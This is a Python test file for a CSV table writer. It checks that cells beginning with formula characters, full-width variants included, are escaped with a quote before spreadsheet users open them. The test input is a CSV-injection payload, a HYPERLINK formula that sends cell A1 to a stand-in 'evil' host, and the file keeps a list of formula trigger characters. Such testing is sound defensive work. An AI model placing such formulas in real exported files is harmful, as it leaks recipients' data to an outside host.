"""CSV files that people open in a spreadsheet."""

from __future__ import annotations

import csv
import io

import pytest

from scenewright_stages.contract.tables import plain_cell, table

FORMULAS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


@pytest.mark.parametrize("start", FORMULAS)
@pytest.mark.parametrize("column", [0, 1])
def test_no_cell_is_a_formula(start: str, column: int) -> None:
    row = ["a.jpg", "1 + 1 = 2"]
    row[column] = f'{start}HYPERLINK("http://evil/"&A1)'
    (_, found) = csv.reader(io.StringIO(table(("sample", "message"), [row]).decode(), newline=""))
    assert found[column] == f"'{row[column]}" and found[1 - column] == row[1 - column]
    assert [plain_cell(cell) for cell in found] == row
    assert not any(cell.startswith(FORMULAS) for cell in found)
